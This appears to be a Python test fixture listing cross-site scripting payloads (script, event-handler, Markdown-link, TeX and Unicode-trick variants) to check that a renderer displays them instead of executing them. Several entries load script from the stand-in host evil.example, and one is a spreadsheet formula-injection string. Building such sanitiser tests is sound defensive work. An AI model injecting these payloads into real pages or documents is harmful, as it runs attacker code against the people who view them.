"""Texts that would run a script somewhere, one or two of each kind: what is written here must be shown, not obeyed."""

# fmt: off
PAYLOADS = [
    # elements
    "<script>steal()</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<img src=x onerror=steal()>", "<svg/onload=steal()>", "<svg><animate onbegin=steal() attributeName=x>",
    "<body onload=steal()>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>", "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<math><mi xlink:href=javascript:steal()>x</mi></math>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><button>x",
    "<details open ontoggle=steal()>", "<input autofocus onfocus=steal()>",
    "<template><img src=x onerror=steal()></template>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>", "<i onclick=steal()>x</i>",
    "<sub style='position:fixed'>x</sub>",
    "<jats:p onmouseover=steal()>x</jats:p>",
    # out of attributes, comments, scripts, styles, JSON
    "\" onmouseover=steal() x=\"", "' autofocus onfocus='steal()", "><img src=x onerror=steal()>",
    "` onerror=steal() `", "--><script>steal()</script><!--",
    "</script><script>steal()</script>", "</title><script>steal()</script>",
    "</textarea><img src=x onerror=steal()>", "]]><script>steal()</script>",
    "\\\";steal();//", "${steal()}", "{{ steal() }}{% include 'x' %}", "</style><script>steal()</script>",
    "<!--<script>", "\u2028steal()\u2029",
    # names of characters, once and twice
    "&lt;script&gt;steal()&lt;/script&gt;", "&#60;img src=x onerror=steal()&#62;",
    "&amp;lt;img src=x onerror=steal()&amp;gt;", "&#x3c;svg onload=steal()&#x3e;",
    # addresses in Markdown
    "[x](javascript:steal())", "[x](JaVaScRiPt:steal())", "[x](java\tscript:steal())",
    "[x](&#106;avascript:steal())", "[x](javascript&colon;steal())",
    "[x](data:text/html;base64,PHN2Zy8+)", "[x](vbscript:steal())", "![x](x\"onerror=\"steal())",
    "[x](https://a.example \"onclick=steal()\")",
    "<javascript:steal()>", "[x]\n\n[x]: javascript:steal()", "[x](\x0bjavascript:steal())", "[x](//evil.example/)",
    "[<img src=x onerror=steal()>](https://a.example)",
    "`<img src=x onerror=steal()>`", "```\n</code></pre><script>steal()</script>\n```",
    "<https://a.example/\"onclick=steal()>", "[x](<javascript:steal()>)",
    # in formulas and TeX
    "$<img src=x onerror=steal()>$", "$\\text{<script>steal()</script>}$", "$\\href{javascript:steal()}{x}$",
    "$x\" onclick=\"steal()$",
    "\\href{javascript:steal()}{x}", "\\url{javascript:steal()}", "\\emph{<svg onload=steal()>}",
    "$\\unicode{x3c}script$", "$\\style{x:y}{z}$",
    # letters that are more than they seem
    "\uff1cscript\uff1esteal()\uff1c/script\uff1e", "\ufeff<script>steal()</script>",
    "\ue000<script>steal()</script>\ue001", "=cmd|'/c calc'!A1", "\u202etpircs<",
]
# fmt: on
